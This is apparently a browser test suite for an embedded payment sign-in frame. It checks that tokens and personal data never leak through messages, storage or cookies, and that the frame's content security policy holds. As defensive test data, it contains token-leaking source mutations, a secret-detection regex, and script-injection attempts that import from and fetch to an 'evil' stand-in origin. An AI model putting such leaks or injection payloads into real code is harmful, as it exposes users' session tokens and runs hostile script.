"""No secret leaves the frame: by message, by storage, or through its CSP."""

import json
import re

import pytest

from link_dev.stack import Stack
from tests.support.browser.recorded_calls import RecordedCalls
from tests.support.browser.shop import ShopPage
from tests.support.browser.sign_in import link_token, sign_in_by_code
from tests.support.browser.visitor import Visitor

pytestmark = pytest.mark.asyncio(loop_scope="session")

CONTACT = "kofi.mensah@example.com"
REFRESH = "/v1/link/elements/refresh"
EVENT_TYPES = {
    *("initialized", "authenticated", "token_refreshed", "height_change"),
    *("step", "dismissed"),
    *("selected", "error", "logout_complete"),
}
LIKE_A_SECRET = re.compile(
    r"(?:lnk|rfr|elr|elb)_|eyJ[A-Za-z0-9_-]{4}|(?:els|lses|cus|acc)_[0-9A-Za-z]{8}|@|\d{6}"
)


async def test_check_20_token_leakage(visitor: Visitor, stack: Stack) -> None:
    """Through sign-in, refresh, 503 and logout the page gets seven event types and no secret."""
    await visitor.take_clock()
    calls = RecordedCalls.of(visitor.context)
    handed_over = await link_token(visitor.servers, "elorm@example.com")
    shop = await visitor.shop("payment")
    await shop.mount("auth", linkToken=handed_over)
    await shop.hear("initialized", 2)
    await sign_in_by_code(shop, stack, CONTACT)
    # The hidden element's sessions too: while a handshake waits, the driver's clock posts messages.
    await visitor.servers.called("init", 4)
    await refresh_around_a_503(visitor, shop)
    await shop.command("logout", 0)
    await shop.command("logout", 1)
    await shop.hear("logout_complete", 2)
    await calls.exchange("logout", 2)

    messages = await shop.messages()
    assert_only_known_messages(messages)
    text = json.dumps(without_challenges(messages))
    secrets = calls.secrets() | {handed_over, CONTACT}
    assert 15 <= len(secrets)
    assert [] == [secret for secret in secrets if secret in text]
    assert None is LIKE_A_SECRET.search(text)


async def refresh_around_a_503(visitor: Visitor, shop: ShopPage) -> None:
    """Refresh, and once more with the first two tries refused."""
    assert {"expires_in": 300} == await shop.command("refresh")
    await visitor.forward(30_000)
    visitor.expect_error("status of 503")
    visitor.servers.stack.faults.add(REFRESH, "unavailable", times=2)
    assert {"expires_in": 300} == await shop.command("refresh")


def assert_only_known_messages(messages: list[dict[str, object]]) -> None:
    """Only `ready` came to the window, only the nine types through the ports."""
    types: dict[object, set[object]] = {"window": set(), "port": set()}
    for message in messages:
        data = message["data"]
        assert isinstance(data, dict)
        types[message["via"]].add(data["type"])
    assert {"ready"} == types["window"]
    assert types["port"] <= EVENT_TYPES
    assert {"authenticated", "token_refreshed", "logout_complete"} <= types["port"]


def without_challenges(messages: list[dict[str, object]]) -> list[object]:
    """Leave out what is random by nature, and public."""
    found: list[object] = []
    for message in messages:
        data = message["data"]
        assert isinstance(data, dict)
        found.append({name: value for name, value in data.items() if name != "code_challenge"})
    return found


ID = "'addr_0123456789abcdef'"
_OOPS = "'error', { code: 'oops', retryable: true"
LEAKS = {
    "a field of its own": "'initialized', { state, access_token: grant.accessToken.token }",
    "in place of the state": "'initialized', { state: grant.refreshToken }",
    "a label": f"'selected', {{ element: 'auth', id: {ID}, label: grant.accessToken.token }}",
    "a message": "'error', { code: 'oops', retryable: true, message: grant.refreshToken }",
    "an id": "'error', { code: 'oops', retryable: true, message: grant.session.id }",
    "an e-mail address": "'error', { code: 'oops', retryable: true, message: 'akos@example.com' }",
    "a request id": f"{_OOPS}, message: '', request_id: grant.refreshToken }}",
    "another type": "'debug', { grant }",
}


@pytest.mark.parametrize("leak", LEAKS)
async def test_check_20_a_leaking_frame_is_stopped(visitor: Visitor, leak: str) -> None:
    """If a bug sends a secret, the outbound filter throws, and the page gets `internal`."""

    def change(text: str) -> str:
        changed = text.replace("send('initialized', { state })", f"send({LEAKS[leak]})")
        assert changed != text
        return changed

    await visitor.change_source("frame/controller.js", change)
    shop = await visitor.shop("payment")

    assert "internal" == (await shop.failure())["code"]
    [heard] = [message["data"] for message in await shop.messages() if message["via"] == "port"]
    assert ("error", "Something went wrong.") == (heard["type"], heard["message"])


async def test_tokens_are_in_no_store(visitor: Visitor, stack: Stack) -> None:
    """After sign-in and refresh, every store of the frame and of the page is empty, cookies too."""
    shop = await visitor.shop("payment")
    await sign_in_by_code(shop, stack, CONTACT)
    await shop.command("refresh")

    for frame in (shop.page.main_frame, await shop.frame()):
        held = await frame.evaluate(
            """async () => ({
              local: localStorage.length,
              session: sessionStorage.length,
              cookie: document.cookie,
              databases: (await indexedDB.databases()).length,
              caches: (await caches.keys()).length,
              name: window.name,
            })"""
        )
        empty = {"local": 0, "session": 0, "cookie": "", "databases": 0, "caches": 0, "name": ""}
        assert empty == held, frame.url
    assert [] == await visitor.context.cookies()


THROWING_STORES = """
if (location.hostname.startsWith('link.')) {
  const denied = () => { throw new DOMException('denied', 'SecurityError'); };
  for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches']) {
    Object.defineProperty(window, name, { get: denied, configurable: true });
  }
  window.BroadcastChannel = class { constructor() { denied(); } };
  window.SharedWorker = class { constructor() { denied(); } };
  Object.defineProperty(Navigator.prototype, 'locks', { get: denied });
  Object.defineProperty(Navigator.prototype, 'serviceWorker', { get: denied });
  Object.defineProperty(Navigator.prototype, 'storage', { get: denied });
  Object.defineProperty(Document.prototype, 'cookie', { get: denied, set: denied });
}
"""


async def test_all_works_where_every_store_throws(visitor: Visitor, stack: Stack) -> None:
    """A third-party frame may be denied everything: sign-in, refresh and logout still work."""
    await visitor.context.add_init_script(THROWING_STORES)
    shop = await visitor.shop("payment")
    await shop.hear("initialized")
    denied = "() => { try { localStorage } catch (error) { return error.name } }"
    assert "SecurityError" == await (await shop.frame()).evaluate(denied)

    await sign_in_by_code(shop, stack, CONTACT)

    assert {"expires_in": 300} == await shop.command("refresh")
    assert {} == await shop.command("logout")


# Run by a timer: what DevTools evaluates may do what the page may not.
ATTEMPTS = """() => new Promise((resolve) => setTimeout(async () => {
  const violated = [];
  addEventListener('securitypolicyviolation', (e) => violated.push(e.effectiveDirective));
  const tried = async (attempt) => {
    try { await attempt(); return 'done'; } catch (error) { return error.name; }
  };
  const script = () => {
    const node = document.createElement('script');
    node.textContent = 'window.injected = 1';
    document.body.append(node);
  };
  const image = () => new Promise((load, fail) => {
    const node = new Image();
    node.onload = load;
    node.onerror = () => fail(new DOMException('', 'NetworkError'));
    node.src = `${evil}/pixel.svg`;
  });
  const evil = %s;
  resolve({
    innerHTML: await tried(() => { document.body.innerHTML = '<img onerror="injected = 1">'; }),
    insertAdjacentHTML: await tried(() => document.body.insertAdjacentHTML('beforeend', '<b>')),
    'inline script': await tried(script),
    'inline handler': await tried(() => document.body.setAttribute('onclick', 'injected = 1')),
    eval: await tried(() => eval('window.injected = 1')),
    'timer of text': await tried(() => setTimeout('window.injected = 1')),
    'policy of its own': await tried(() => trustedTypes.createPolicy('mine', {})),
    'module of evil': await tried(() => import(`${evil}/harness/scenarios/origins.js`)),
    'fetch to evil': await tried(() => fetch(evil)),
    'image of evil': await tried(image),
    injected: window.injected ?? null,
    violated: [...new Set(violated)].sort(),
  });
}))"""


async def test_check_35_policies_in_the_frame(visitor: Visitor) -> None:
    """innerHTML, an inline script, eval and a fetch to evil in the frame: all blocked."""
    visitor.expect_error("Content Security [Pp]olicy|requires 'Trusted")
    shop = await visitor.shop("payment")
    await shop.hear("initialized")

    found = await (await shop.frame()).evaluate(ATTEMPTS % json.dumps(visitor.origin("evil")))

    assert None is found.pop("injected")
    violated = found.pop("violated")
    assert {"connect-src", "img-src", "require-trusted-types-for"} <= set(violated)
    assert [] == [attempt for attempt, ended in found.items() if ended == "done"], found


async def test_check_35_markup_in_the_document(visitor: Visitor) -> None:
    """Markup is injected into the document: no script in it runs, and the element works."""
    visitor.expect_error("Content Security Policy")
    injected = "<script>window.injected = 1</script><svg onload='window.injected = 1'></svg>"

    def change(_headers: dict[str, str], text: str) -> str:
        return text.replace("<main", f"{injected}<main")

    await visitor.change_frame_documents(change)
    shop = await visitor.shop("payment")

    await shop.hear("initialized")

    frame = await shop.frame()
    assert 1 == await frame.evaluate("document.querySelectorAll('svg[onload]').length")
    assert None is await frame.evaluate("window.injected ?? null")
